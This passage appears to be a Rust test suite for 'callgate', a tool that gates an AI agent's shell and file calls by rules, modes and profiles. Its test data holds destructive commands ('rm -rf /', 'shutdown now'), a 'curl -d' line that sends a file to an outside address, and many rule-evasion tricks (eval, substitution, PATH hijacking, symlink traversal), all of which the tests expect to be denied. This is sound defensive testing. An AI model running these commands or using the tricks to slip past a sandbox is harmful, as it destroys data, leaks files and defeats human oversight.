//! Rules, modes and profiles, as the command line has them: what is denied does not run, whoever asks and whatever else is
//! allowed, and the answer says which rule it was, where it stands and what would have changed it.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;

use callgate_tests::{Binaries, Dice, Host, ProgramOutcome, Target, TestEnv, User, matrix, random_rules};
use serde_json::{Value, json};

use super::mcp::{PersonAnswer, StdioClient};

/// Where the host's strength makes no difference.
const HERE: Target = Target { host: Host::Namespaces, user: User::Ordinary };

/// Grants of every manifest here.
const GRANTS: &str = "[[requires.shell]]\ncmd = \"*\"\n[requires.fs]\nwrite = [\"{workspace}/**\"]\n";

#[derive(Debug)]
pub(crate) struct Called {
    ended: ProgramOutcome,
    pub(crate) envelope: Value,
}

impl Called {
    pub(crate) fn denial(&self) -> &Value {
        &self.envelope["metadata"]["denial"]
    }

    #[track_caller]
    pub(crate) fn assert_denied(&self, layer: &str, reason: &str) {
        assert_eq!(self.ended.status.code(), Some(77), "{:?}", self.ended);
        assert_eq!(self.denial()["layer"], layer, "{}", self.envelope);
        let said = self.denial()["reason"].as_str().unwrap();
        assert!(said.contains(reason), "{said:?} does not say {reason:?}");
    }

    #[track_caller]
    fn assert_done(&self) {
        assert_eq!(self.ended.status.code(), Some(0), "{:?}", self.ended);
    }
}

/// `callgate call` with the manifest `m.toml`, which has these lines first, and these flags.
pub(crate) fn call(env: &TestEnv, lines: &str, flags: &[&str], tool: &str, arguments: &Value) -> Called {
    env.workspace_file("m.toml", &format!("{lines}\n{GRANTS}"));
    let (binary, arguments) = (Binaries::of_this_build().callgate().display().to_string(), arguments.to_string());
    let words = [&[binary.as_str(), "call", "--manifest", "m.toml"], flags, &[tool, &arguments]].concat();
    let ended = env.weakened().run(&words);
    let envelope = serde_json::from_str(&ended.stdout).unwrap_or_else(|error| panic!("{error}: {ended:?}"));
    Called { ended, envelope }
}

pub(crate) fn rule(permission: &str, pattern: &str, action: &str) -> String {
    format!("[[rules]]\npermission = \"{permission}\"\npattern = \"{pattern}\"\naction = \"{action}\"\n")
}

fn write(path: &str) -> Value {
    json!({ "path": path, "content": "new" })
}

/// S0-49, S0-54, S0-55, C-2, C-3, E6, E7: of a manifest's rules, which look at what the call names, the one that ranks first
/// decides, and a denial is one: nothing is written. It holds against a more specific permission, and against `yolo`. (Rules of
/// sessions and projects: `library/scopes.rs`.)
#[test]
fn e6_e7_a_denied_path_is_not_written() {
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        let rules =
            [rule("write", "docs/open/**", "allow"), rule("fs.write", "docs/**", "deny"), rule("write", "**", "allow")]
                .concat();
        for flags in [&[][..], &["--mode", "yolo"]] {
            let denied = call(&env, &rules, flags, "write", &write("docs/open/a"));
            denied.assert_denied("rule", "the rule deny fs.write \"docs/**\" (m.toml:5), for ");
            assert!(denied.denial()["remedy"].as_str().unwrap().contains("m.toml:5"), "{}", denied.envelope);
            assert!(!env.workspace().join("docs").is_dir());
        }
        let done = call(&env, &rules, &[], "write", &write("src/a"));
        done.assert_done();
        assert_eq!(done.envelope["metadata"]["decision"]["place"], "m.toml:9");
        assert_eq!(fs::read_to_string(env.workspace().join("src/a")).unwrap(), "new");
        // What a program could do is held to the rule as well: it names nothing beforehand.
        let line = json!({ "command": "echo x > made; mkdir docs" });
        let shell = call(&env, &rules, &["--mode", "yolo"], "bash", &line);
        assert_eq!(shell.envelope["data"]["exit_code"], 1, "{}", shell.envelope);
        assert!(env.workspace().join("made").is_file() && !env.workspace().join("docs").exists());
    });
}

/// S0-52, S0-57, X3-3: with nobody to ask, a question is a no, and no answer is invented.
#[test]
fn s0_57_a_question_without_a_person_is_a_no() {
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        let rules = rule("write", "*", "ask");
        let denied = call(&env, &rules, &[], "write", &write("a"));
        denied.assert_denied("person", "there is nobody to ask");
        assert!(!env.workspace().join("a").is_file());
        // The control: S1-16, in `yolo` nobody is asked.
        call(&env, &rules, &["--mode", "yolo"], "write", &write("a")).assert_done();
        assert!(env.workspace().join("a").is_file());
        // A person's own call is approved by that, where no rule says otherwise.
        call(&env, "", &[], "write", &write("b")).assert_done();
    });
}

/// A line that nothing takes apart is not one that cannot be; and a command that says where another is does not start it.
#[test]
fn what_is_said_of_a_line_is_so() {
    let env = TestEnv::new(HERE);
    let echo = json!({ "command": "echo a" });
    let unread = call(&env, "", &["--asked-by", "agent"], "bash", &echo);
    unread.assert_denied("person", "no rule allows it; there is nobody to ask");
    let unclear = json!({ "command": "echo a; ((" });
    let deny = rule("bash", "rm *", "deny");
    call(&env, &deny, &[], "bash", &unclear).assert_denied("rule", "a command line that cannot be taken apart");
    for line in ["which rm", "type rm", "command -v rm", "command -p -v rm", "command -v sudo mkfs.ext4"] {
        let said = call(&env, &deny, &[], "bash", &json!({ "command": line }));
        assert!(said.denial().is_null(), "{line}: {}", said.envelope);
    }
    for line in ["command rm -v x", "command -p rm x", "which rm; rm x"] {
        call(&env, &deny, &[], "bash", &json!({ "command": line })).assert_denied("rule", "deny bash");
    }
}

/// A rule about the programs in a directory is about those in it, by whatever path they are named.
#[test]
fn a_path_leads_neither_out_of_an_allowance_nor_past_a_denial() {
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        for (directory, script) in [("scripts", "good.sh"), ("vendor", "evil.sh")] {
            let directory = env.workspace().join(directory);
            fs::create_dir(&directory).unwrap();
            fs::write(directory.join(script), "#!/bin/sh\n: > \"${0##*/}.ran\"\n").unwrap();
            fs::set_permissions(directory.join(script), fs::Permissions::from_mode(0o755)).unwrap();
            env.give(&directory);
            env.give(&directory.join(script));
        }
        let ran = |script: &str| fs::remove_file(env.workspace().join(format!("{script}.ran"))).is_ok();
        let run =
            |lines: &str, flags: &[&str], line: &str| call(&env, lines, flags, "bash", &json!({ "command": line }));
        let agent = ["--asked-by", "agent"];

        let allow = rule("bash", "./scripts/*", "allow");
        run(&allow, &agent, "./scripts/good.sh").assert_done();
        run(&allow, &agent, "./scripts/.//good.sh").assert_done();
        assert!(ran("good.sh"), "the control");
        for line in [
            "./scripts/../vendor/evil.sh",
            "./scripts/.././vendor//evil.sh",
            "for x in ../vendor/evil.sh; do \"./scripts/$x\"; done",
        ] {
            run(&allow, &agent, line).assert_denied("person", "no rule allows it");
            assert!(!ran("evil.sh"), "{line}");
        }

        let deny = rule("bash", "./vendor/*", "deny");
        run(&deny, &[], "./scripts/good.sh").assert_done();
        assert!(ran("good.sh"), "the control");
        run("", &[], "./scripts/../vendor/evil.sh").assert_done();
        assert!(ran("evil.sh"), "the control");
        let absolute = env.workspace().canonicalize().unwrap().join("vendor/evil.sh").display().to_string();
        for line in
            ["./vendor/evil.sh", "vendor/evil.sh", "./scripts/../vendor/evil.sh", &absolute, "cd vendor && ./evil.sh"]
        {
            run(&deny, &[], line).assert_denied("rule", "deny bash");
            assert!(!ran("evil.sh") && !env.workspace().join("vendor/evil.sh.ran").exists(), "{line}");
        }
        let there = json!({ "command": "./evil.sh", "working_dir": "vendor" });
        call(&env, &deny, &[], "bash", &there).assert_denied("rule", "deny bash");
        assert!(!env.workspace().join("vendor/evil.sh.ran").exists());
    });
}

/// A rule allows a command where the session's commands run; elsewhere only if it says where.
#[test]
fn a_command_is_allowed_in_its_directory() {
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        let vendor = env.workspace().join("vendor");
        fs::create_dir(&vendor).unwrap();
        env.give(&vendor);
        let made = |directory: &str| fs::remove_file(env.workspace().join(directory).join("made")).is_ok();
        let allow = [rule("bash", "touch *", "allow"), rule("bash", "cd *", "allow")].concat();
        let run = |lines: &str, arguments: &Value| call(&env, lines, &["--asked-by", "agent"], "bash", arguments);
        let root = env.workspace().canonicalize().unwrap().display().to_string();
        for arguments in [
            json!({ "command": "touch made" }),
            json!({ "command": "touch made", "working_dir": "." }),
            json!({ "command": format!("cd '{root}' && touch made") }),
        ] {
            run(&allow, &arguments).assert_done();
            assert!(made("."), "{arguments}");
        }
        let there = json!({ "command": "touch made", "working_dir": "vendor" });
        for lines in [allow.clone(), "mode = \"allowlist\"\nallowlist = [\"bash:touch *\"]\n".to_owned()] {
            for arguments in [there.clone(), json!({ "command": "cd vendor && touch made" })] {
                run(&lines, &arguments).assert_denied("person", "");
                assert!(!made("vendor") && !made("."), "{lines}: {arguments}");
            }
        }
        run(&rule("bash", "cd vendor && touch *", "allow"), &there).assert_done();
        assert!(made("vendor"), "a rule may say where");
    });
}

/// A pattern of a path is about characters, whatever they take in UTF-8.
#[test]
fn a_character_is_one_in_a_pattern() {
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        let docs = env.workspace().join("docs");
        fs::create_dir(&docs).unwrap();
        env.give(&docs);
        for name in ["e.txt", "é.txt", "日.txt", "ee.txt"] {
            fs::write(docs.join(name), "kept\n").unwrap();
            env.give(&docs.join(name));
        }
        let read = |pattern: &str, name: &str| {
            call(&env, &rule("read", pattern, "deny"), &[], "read", &json!({ "path": format!("docs/{name}") }))
        };
        for name in ["e.txt", "é.txt", "日.txt"] {
            read("docs/?.txt", name).assert_denied("rule", "deny read");
            read("docs/??.txt", name).assert_done();
        }
        read("docs/?.txt", "ee.txt").assert_done();
        read("docs/[!a].txt", "é.txt").assert_denied("rule", "deny read");
        read("docs/[é].txt", "é.txt").assert_denied("rule", "deny read");
        read("docs/[é].txt", "e.txt").assert_done();
    });
}

/// C-6, X1-15, X1-17: with `headless = "halt"` nothing is executed, and one line of JSON says that a person is needed.
#[test]
fn x1_15_a_halt_is_told_in_one_line() {
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        let lines = format!("headless = \"halt\"\n{}", rule("bash", "*", "ask"));
        let halted = call(&env, &lines, &[], "bash", &json!({ "command": "echo x > made" }));
        assert_eq!(halted.ended.status.code(), Some(1), "{:?}", halted.ended);
        let told: Value = serde_json::from_str(halted.ended.stderr.trim()).unwrap();
        assert_eq!(told["surface"], "headless.interaction-required");
        assert_eq!((&told["class"], &told["code"]), (&json!("Validation"), &json!("HeadlessInteractionRequired")));
        assert_eq!((&told["type"], &told["tool"]), (&json!("permission-required"), &json!("bash")));
        assert!(!env.workspace().join("made").is_file());
    });
}

/// S0-52, S0-57, X1-12: a host that starts `callgate call` for a model says so; then `ask`, `allowlist` and `headless` count, and with
/// nobody to ask what no rule allows is denied, or halts.
#[test]
fn s0_52_a_models_call_needs_a_rule() {
    let env = TestEnv::new(HERE);
    let agent = ["--asked-by", "agent"];
    let made = || fs::remove_file(env.workspace().join("made")).is_ok();
    let echo = |line: &str| json!({ "command": line });
    for mode in [None, Some("ask"), Some("allowlist"), Some("auto-edit")] {
        let flags = [&agent[..], &mode.map_or(vec![], |mode| vec!["--mode", mode])].concat();
        let denied = call(&env, "", &flags, "bash", &echo("echo x > made"));
        denied.assert_denied("person", "no rule allows it");
        assert!(!made(), "{mode:?}: it did not run");
    }
    for person in [&[][..], &["--asked-by", "person"], &["--asked-by", "person", "--mode", "ask"]] {
        call(&env, "", person, "bash", &echo("echo x > made")).assert_done();
        assert!(made(), "the control: {person:?}");
    }
    let listed = "mode = \"allowlist\"\nallowlist = [\"bash:echo *\", \"bash:> made\"]\n";
    call(&env, listed, &agent, "bash", &echo("echo x > made")).assert_done();
    assert!(made(), "the control: the list allows it");
    call(&env, listed, &agent, "bash", &echo("touch made")).assert_denied("person", "no rule allows it");
    assert!(!made());
    let allowed =
        format!("headless = \"halt\"\n{}", rule("bash", "echo *", "allow") + &rule("bash", "> made", "allow"));
    call(&env, &allowed, &agent, "bash", &echo("echo x > made")).assert_done();
    assert!(made(), "the control: a rule allows it");
    let halted = call(&env, &allowed, &agent, "bash", &echo("touch made"));
    assert_eq!(halted.ended.status.code(), Some(1), "{:?}", halted.ended);
    assert!(halted.ended.stderr.contains("headless.interaction-required"), "{:?}", halted.ended);
    assert!(!made());
    let help = env.weakened().run(&[&Binaries::of_this_build().callgate().display().to_string(), "call", "--help"]);
    assert!(help.stdout.contains("--asked-by <WHO>"), "{}", help.stdout);
}

/// S4-1, C-7, C-24, X3-4, X3-5: a tool that a profile does not offer is not there, and no rule or mode brings it back.
#[test]
fn s4_1_a_profile_decides_which_tools_there_are() {
    let env = TestEnv::new(HERE);
    env.workspace_file("there", "there");
    for profile in ["readonly", "plan"] {
        let lines = format!("profile = \"{profile}\"\n{}", rule("write", "*", "allow"));
        for (tool, arguments) in [("write", write("a")), ("edit", json!({}))] {
            let absent = call(&env, &lines, &["--mode", "yolo"], tool, &arguments);
            assert_eq!(absent.ended.status.code(), Some(64), "{:?}", absent.ended);
            let said = absent.envelope["error_text"].as_str().unwrap();
            assert!(said.starts_with(&format!("there is no tool `{tool}`")), "{said}");
            assert!(!env.workspace().join("a").is_file());
        }
        call(&env, &lines, &[], "read", &json!({ "path": "there" })).assert_done();
    }
    for profile in ["developer", "eval"] {
        call(&env, &format!("profile = \"{profile}\""), &[], "write", &write("a")).assert_done();
    }
}

/// C1, C3, S0-51: every command of a line is judged, wherever it stands and however it is spelt; what is not known before it
/// runs slips past no denial, and is covered by no allowing pattern; nor is a file that the shell writes, or a variable.
#[test]
fn c1_c3_each_command_of_a_line_is_judged() {
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        env.workspace_file("kept", "kept");
        let bash = |rules: &str, line: &str| call(&env, rules, &[], "bash", &json!({ "command": line }));
        let denies = rule("bash", "rm *", "deny");
        for line in [
            "rm kept",
            "true && rm kept",
            "true; r''m kept",
            "\\rm kept",
            "true\nrm kept",
            "echo $(rm kept)",
            "x=`rm kept`",
            "if true; then rm kept; fi",
            "f() { rm kept; }; f",
            "cat <(rm kept)",
            "cat <<E\n$(rm kept)\nE",
            "x=rm; $x kept",
            "${x:-rm} kept",
            "rm",
        ] {
            bash(&denies, line).assert_denied("rule", "the rule deny bash \"rm *\" (m.toml:1)");
            assert!(env.workspace().join("kept").is_file(), "{line}");
        }
        for line in ["cat kept", "echo rm kept", "grep 'rm kept' kept || true", "for i in 1 2; do echo $i; done"] {
            bash(&denies, line).assert_done();
        }
        let allows = format!("{}{}", rule("bash", "*", "ask"), rule("bash", "git --version *", "allow"));
        for line in ["git --version", "git --version | git --version", "git --version 2>&1 >/dev/null"] {
            bash(&allows, line).assert_done();
        }
        for line in [
            "git --version > made",
            "git --version; touch made",
            "git --version && $(touch made)",
            "GIT_PAGER=x git --version",
            "git $x",
            "git --version; )",
        ] {
            bash(&allows, line).assert_denied("person", "there is nobody to ask");
            assert!(!env.workspace().join("made").is_file(), "{line}");
        }
    });
}

/// A program by the name of one that is allowed.
fn script(env: &TestEnv) {
    env.workspace_file("ls", "#!/bin/sh\ntouch made\n");
    fs::set_permissions(env.workspace().join("ls"), fs::Permissions::from_mode(0o755)).unwrap();
}

/// C2, E7: a pattern that allows a builtin does not cover what the builtin evaluates: an array's index, a line, another
/// variable. Nobody is there to be asked, and nothing has run.
#[test]
fn c2_e7_what_bash_evaluates_is_asked_about() {
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        env.workspace_file("kept", "kept");
        let patterns = [
            "printf *",
            "test *",
            "[ *",
            "read *",
            "let *",
            "eval ls *",
            "export X=*",
            "ls *",
            "time *",
            "env *",
            "readonly *",
            "declare *",
            "q=*",
            "v=*",
            "mapfile *",
            "history *",
        ];
        script(&env);
        let allows = patterns.map(|pattern| rule("bash", pattern, "allow")).concat();
        let rules = rule("bash", "*", "ask") + &allows;
        let bash = |line: &str| call(&env, &rules, &[], "bash", &json!({ "command": line }));
        for line in [
            "printf -v 'a[$(touch made)]' y",
            "test -v 'a[$(touch made)]'",
            "test ! \"$HOME\" 'a[$(touch made)]'",
            "[ -v 'a[$(touch made)]' ]",
            "read 'a[$(touch made)]' < kept",
            "let 'a[$(touch made)]'",
            "eval ls ';' touch made",
            "export X=1 PATH=.; ls",
            "time touch made",
            "env PATH=. ls",
            "env -S./ls",
            "readonly PATH=.; ls",
            "declare PATH=.; ls",
            "mapfile -t PATH <<< .; ls",
            "read PATH <<< .; ls",
            "printf -v PATH .; ls",
            "v='(a[$(touch made)]=1)'; q=1; declare q=\"$v\"",
            "history -w made",
        ] {
            bash(line).assert_denied("person", "there is nobody to ask");
            assert!(!env.workspace().join("made").is_file(), "{line}");
        }
        for line in [
            "printf %s x",
            "test -f kept",
            "[ -n \"$HOME\" ]",
            "read -r x < kept",
            "export X=1; ls",
            "time ls",
            "env ls",
            "declare -A m",
            "mapfile -t m < kept",
        ] {
            bash(line).assert_done();
        }
    });
}

/// C1, C2, E7: what denies a program denies it by its path, and behind whatever only starts it.
#[test]
fn c1_a_denied_program_has_no_other_name() {
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        for (at, pattern) in ["touch *", "/usr/bin/touch *"].into_iter().enumerate() {
            let denies = rule("bash", pattern, "deny");
            let bash = |line: &str| call(&env, &denies, &[], "bash", &json!({ "command": line }));
            for line in [
                "touch made",
                "/usr/bin/touch made",
                "/usr/../usr/bin/touch made",
                "time touch made",
                "exec touch made",
                "command touch made",
                "env -i nice -n 1 touch made",
                "echo made | xargs touch",
                "find . -maxdepth 0 -exec touch made ';'",
                "sh -c 'touch made'",
                "eval touch made",
                "timeout 9 sh -c 'cd .; /bin/touch made'",
                "env - touch made",
                "env -S'touch made'",
                "eval -- touch made",
                "trap -- 'touch made' EXIT",
                "mapfile -C 'touch made #' -c 1 a < m.toml",
                "compgen -C 'touch made'",
                "printf -v 'a[$(touch made)]' y",
                "script -qc'touch made' /dev/null",
                "bash -c '/usr/bin/tou[c]h made'",
                "bash -c '{touch,made}'",
                "bash -c '<<<x touch made'",
                "bash -c 'function f { touch made; }; f'",
                "bash -c 'if false; then :; elif touch made; then :; fi'",
                "eval 'B+=2 touch made'",
            ] {
                bash(line).assert_denied("rule", &format!("the rule deny bash {pattern:?} (m.toml:1)"));
                assert!(!env.workspace().join("made").is_file(), "{line}");
            }
            // The control: words that only name it.
            for line in [
                "echo touch made",
                "command -v touch",
                "time echo touch",
                "export X=touch; set -ex; ls",
                "bash -c 'cd . && ls | cat >/dev/null; echo \"$HOME\"'",
            ] {
                bash(line).assert_done();
            }
            call(&env, "", &[], "bash", &json!({ "command": format!("time touch control{at}") })).assert_done();
            assert!(env.workspace().join(format!("control{at}")).is_file());
        }
    });
}

/// E6, A1: a rule about a path holds for what the path leads to: where rules look at paths, no link leads a tool elsewhere.
#[test]
fn e6_a_denial_holds_where_links_lead() {
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        fs::create_dir(env.workspace().join("sub")).unwrap();
        env.give(&env.workspace().join("sub"));
        env.workspace_file("secret.txt", "classified");
        env.workspace_file("plain.txt", "plain");
        for (link, to) in [("alias", "."), ("named", "secret.txt"), ("sub/up", "..")] {
            std::os::unix::fs::symlink(to, env.workspace().join(link)).unwrap();
        }
        let edit = |path: &str| json!({ "path": path, "old_string": "classified", "new_string": "changed" });
        let search = |path: &str| json!({ "pattern": "classified", "path": path });
        let list = |path: &str| json!({ "pattern": "*.txt", "path": path });
        let read = |path: &str| json!({ "path": path });
        for permission in ["fs.read", "read", "*"] {
            let denies = rule(permission, "secret.txt", "deny");
            for path in ["alias/secret.txt", "named", "sub/up/secret.txt", "alias/alias/named"] {
                let refused = call(&env, &denies, &[], "read", &read(path));
                assert_eq!(refused.ended.status.code(), Some(1), "{path}: {refused:?}");
                let said = refused.envelope["error_text"].as_str().unwrap();
                assert!(said.contains("goes by a symbolic link to") && said.contains("/secret.txt"), "{said}");
                assert!(!refused.ended.stdout.contains("classified"), "{path}");
            }
            call(&env, &denies, &[], "read", &read("plain.txt")).assert_done();
        }
        let denies = rule("fs.write", "secret.txt", "deny") + &rule("fs.read", "secret.txt", "deny");
        for (tool, arguments) in [
            ("write", write("alias/secret.txt")),
            ("write", write("named")),
            ("edit", edit("sub/up/secret.txt")),
            ("grep", search("named")),
            ("glob", list("sub/up")),
        ] {
            let refused = call(&env, &denies, &[], tool, &arguments);
            assert_ne!(refused.ended.status.code(), Some(0), "{tool}: {refused:?}");
            assert!(!refused.ended.stdout.contains("classified"), "{tool}");
            assert_eq!(fs::read_to_string(env.workspace().join("secret.txt")).unwrap(), "classified", "{tool}");
        }
        // A pattern that allows is not led elsewhere either.
        let allows = rule("write", "*", "ask") + &rule("write", "sub/**", "allow");
        let refused = call(&env, &allows, &[], "write", &write("sub/up/secret.txt"));
        assert_eq!(refused.ended.status.code(), Some(1), "{refused:?}");
        assert_eq!(fs::read_to_string(env.workspace().join("secret.txt")).unwrap(), "classified");
        call(&env, &allows, &[], "write", &write("sub/new.txt")).assert_done();
        // The control: without rules about paths links lead where they lead.
        call(&env, "", &[], "read", &read("alias/secret.txt")).assert_done();
        call(&env, "", &[], "write", &write("named")).assert_done();
        assert_eq!(fs::read_to_string(env.workspace().join("secret.txt")).unwrap(), "new");
    });
}

/// X0-19: what destroys the system or what is others' is denied, what only harms the workspace or sends something away is asked
/// about, through wrappers and `sh -c` too. Where a mode asks about nothing, what is denied stays denied.
#[test]
fn x0_19_the_watchdog_asks_and_denies() {
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        env.workspace_file("kept", "kept");
        let bash = |flags: &[&str], line: &str| call(&env, "", flags, "bash", &json!({ "command": line }));
        for line in
            ["time find / -delete", "cd / && rm -rf *", "sh -c 'rm -rf /'", "echo / | xargs rm -rf", "shutdown now"]
        {
            for flags in [&[][..], &["--mode", "yolo"]] {
                bash(flags, line).assert_denied("watchdog", "(watchdog rule `");
            }
        }
        for line in ["rm -rf *", "nice sh -c 'rm -rf ./*'", "git clean -fdx", "curl -d @kept http://192.0.2.1/"] {
            bash(&[], line).assert_denied("person", "there is nobody to ask");
            assert!(env.workspace().join("kept").is_file(), "{line}");
        }
        // The controls: what is everyday, and what a person asked for by the mode.
        bash(&[], "rm -rf target && echo 'rm -rf /' > note").assert_done();
        bash(&["--mode", "yolo"], "rm -rf ./*").assert_done();
        assert!(!env.workspace().join("kept").exists());
    });
}

/// S4-9, S4-10, C-23, X4-6, X4-7: the read-only profile has a shell that only reads, in every part of a line, in any mode; and
/// the sandbox holds it too. No false alarm on text that looks like a command.
#[test]
fn s4_9_a_restricted_shell_only_reads() {
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        env.workspace_file("kept", "rm kept\n");
        let lines = "profile = \"readonly\"\nmode = \"yolo\"";
        let bash = |line: &str| call(&env, lines, &[], "bash", &json!({ "command": line }));
        for line in [
            "cat kept | sh",
            "rm kept",
            "echo x > kept",
            "find . -delete",
            "$(rm kept)",
            "sed -i s/k/l/ kept",
            "x=rm; $x kept",
        ] {
            bash(line).assert_denied("rule", "the profile `readonly` has a shell that only reads");
            assert_eq!(fs::read_to_string(env.workspace().join("kept")).unwrap(), "rm kept\n", "{line}");
        }
        for line in ["cat kept | head -1", "grep rm kept", "grep '>' kept", "ls && wc -l kept"] {
            bash(line).assert_done();
        }
        // Layer 3: nothing of the workspace may be written, whatever a line finds.
        let run = [&Binaries::of_this_build().callgate().display().to_string(), "run", "--manifest", "m.toml", "--"];
        let written = env.weakened().run(&[&run[..], &["/bin/bash", "-c", "echo x > kept"]].concat());
        assert!(!written.status.success(), "{written:?}");
        assert_eq!(fs::read_to_string(env.workspace().join("kept")).unwrap(), "rm kept\n");
    });
}

/// X4-5: each command of the page may run in a restricted shell, with arguments that only read, and those that are installed do.
/// (But `ack`, whose options run perl, and `wget`, which writes a file unless it is told not to.)
#[test]
fn x4_5_each_command_of_the_page_runs() {
    const PAGE: &str = "cat f | head f | tail f | less f | more f | grep x f | rg x f | ag x f | find f | locate x | which ls | whereis ls | \
        ls | tree | du f | df . | file f | stat f | wc f | md5 f | sha256sum f | shasum f | awk '{print}' f | sed p f | cut -c1 f | \
        sort f | uniq f | tr a b | column f | fmt f | fold f | nl f | jq . f | yq . f | xmllint f | pr f | expand f | unexpand f | \
        tar -tf f | unzip -l f | zipinfo f | zcat f | zless f | zgrep x f | gzip -l f | gunzip -c f | pwd | whoami | hostname | \
        uname | env | printenv | date | uptime | ps | top -b -n 1 | free | ping -c 1 127.0.0.1 | curl -s http://127.0.0.1:9/ | \
        dig localhost | nslookup localhost | host localhost | netstat -r | ss -t | git --version | echo x | printf x | diff f f | \
        cmp f f | comm f f | hexdump f | xxd f | od f | strings f";
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        env.workspace_file("f", "x\n");
        let lines: Vec<&str> = PAGE.split(" | ").map(str::trim).collect();
        // One call for all: what is refused is named, and each says how it ended.
        let told: String = lines
            .iter()
            .map(|line| format!("{line} < /dev/null > /dev/null 2>&1; echo {} $?; ", line.split(' ').next().unwrap()))
            .collect();
        let lines = "profile = \"readonly\"";
        let done = call(&env, lines, &[], "bash", &json!({ "command": told, "timeout_ms": 60_000 }));
        done.assert_done();
        let output = done.envelope["data"]["output"].as_str().unwrap();
        let mut ran = 0;
        for line in output.lines() {
            let (name, status) = line.split_once(' ').unwrap();
            let places = ["/usr/local/bin", "/usr/bin", "/bin", "/usr/sbin", "/sbin"];
            let installed = places.iter().any(|dir| std::path::Path::new(dir).join(name).is_file());
            assert!(!installed || !["126", "127"].contains(&status), "{name} did not start: {output}");
            ran += u32::from(installed);
        }
        assert!(ran > 40, "most are installed: {output}");
        for line in ["ack x f", "wget http://127.0.0.1:9/"] {
            call(&env, lines, &[], "bash", &json!({ "command": line }))
                .assert_denied("rule", "a shell that only reads");
        }
    });
}

/// C-4, C-5, X1-11: what is listed passes; what is not is asked about; a list that nothing looks at is a mistake.
#[test]
fn c5_what_is_not_listed_is_asked_about() {
    let env = TestEnv::new(HERE);
    let error = {
        env.workspace_file("m.toml", &format!("allowlist = [\"write\"]\n{GRANTS}"));
        let binary = Binaries::of_this_build().callgate().display().to_string();
        env.weakened().run(&[&binary, "call", "--manifest", "m.toml", "read", "{}"])
    };
    assert_eq!(error.status.code(), Some(65), "{error:?}");
    assert!(error.stderr.contains("the mode is not `allowlist`") && error.stderr.contains("m.toml:1"), "{error:?}");
    let made = |path: &str| fs::remove_file(env.workspace().join(path)).is_ok();
    let agent = ["--asked-by", "agent"];
    for (entry, misses) in [("write:src", &["other/a", "srcs/a"][..]), ("write", &[])] {
        let listed = format!("mode = \"allowlist\"\nallowlist = [\"{entry}\"]\n");
        for flags in [&[][..], &agent] {
            let done = call(&env, &listed, flags, "write", &write("src/a"));
            done.assert_done();
            assert_eq!(done.envelope["metadata"]["decision"]["mode"], "allowlist");
            assert!(made("src/a"), "{entry}");
        }
        for path in misses {
            // It is asked about, and not denied: what denies it is that nobody is there.
            let missed = call(&env, &listed, &agent, "write", &write(path));
            missed.assert_denied("person", "no rule allows it, for ");
            missed.assert_denied("person", "there is nobody to ask");
            let halted = call(&env, &format!("headless = \"halt\"\n{listed}"), &agent, "write", &write(path));
            assert_eq!(halted.ended.status.code(), Some(1), "{halted:?}");
            assert!(halted.ended.stderr.contains("headless.interaction-required"), "{halted:?}");
            assert!(!made(path), "{entry}: {path}");
        }
        call(&env, &listed, &agent, "bash", &json!({ "command": "echo x > made" })).assert_denied("person", "");
        assert!(!made("made"), "another tool");
    }
}

/// X1-12: what is typed wrong is told with the usage, and nothing runs.
#[test]
fn x1_12_flags_that_are_none_are_told() {
    let env = TestEnv::new(HERE);
    let binary = Binaries::of_this_build().callgate().display().to_string();
    let arguments = write("made").to_string();
    for (flags, said, usage) in [
        (&["--mode", "loud"][..], "[possible values: ask, allowlist,", true),
        (&["--louder"], "unexpected argument '--louder'", true),
        (&["--api-key", "s3cr3t"], "unexpected argument '--api-key'", true),
        (&["--api-key=s3cr3t"], "unexpected argument '--api-key'", true),
        (&["--mode"], "a value is required for '--mode <MODE>'", true),
        (&["--asked-by"], "a value is required for '--asked-by <WHO>'", true),
        // What its own message shows how to write.
        (&["--approval-timeout", "soon"], "--approval-timeout soon", false),
    ] {
        let mut words = vec![binary.as_str(), "call", "write", &arguments];
        words.extend(flags);
        let ended = env.weakened().run(&words);
        assert_eq!(ended.status.code(), Some(64), "{ended:?}");
        assert!(ended.stderr.contains(said) && ended.stdout.is_empty(), "{ended:?}");
        assert_eq!(ended.stderr.matches("Usage: callgate call ").count(), usize::from(usage), "{ended:?}");
        assert!(!ended.stderr.contains("s3cr3t"), "{ended:?}");
        assert!(!env.workspace().join("made").exists());
    }
    for (words, usage) in [
        (&["--louder"][..], "Usage: callgate "),
        (&["run", "--limit"], "Usage: callgate run "),
        (&["--log"], "Usage: callgate "),
        (&["bench", "--runs", "none"], "Usage: callgate bench "),
    ] {
        let ended = env.weakened().run(&[&[binary.as_str()], words].concat());
        assert_eq!(ended.status.code(), Some(64), "{ended:?}");
        assert_eq!(ended.stderr.matches(usage).count(), 1, "{ended:?}");
    }
    for flag in ["--help", "--version"] {
        assert_eq!(env.weakened().run(&[&binary, flag]).status.code(), Some(0), "{flag}");
    }
    assert_eq!(env.weakened().run(&[&binary, "call", "--mode", "yolo", "write", &arguments]).status.code(), Some(0));
    assert!(env.workspace().join("made").exists(), "the control");
}

/// S0-55: what a rule denies to programs is denied to the command of `run` too, though nobody is asked about that.
#[test]
fn s0_55_run_is_held_to_denials() {
    matrix(Host::STRENGTHS, |target| {
        let env = TestEnv::new(target);
        env.workspace_file("kept", "kept");
        env.workspace_file("m.toml", &format!("{}{GRANTS}", rule("shell.run", "/bin/rm *", "deny")));
        let binary = Binaries::of_this_build().callgate().display().to_string();
        let run = |words: &[&str]| {
            env.weakened().run(&[&[binary.as_str(), "run", "--manifest", "m.toml", "--"], words].concat())
        };
        let denied = run(&["/bin/rm", "kept"]);
        assert_eq!(denied.status.code(), Some(77), "{denied:?}");
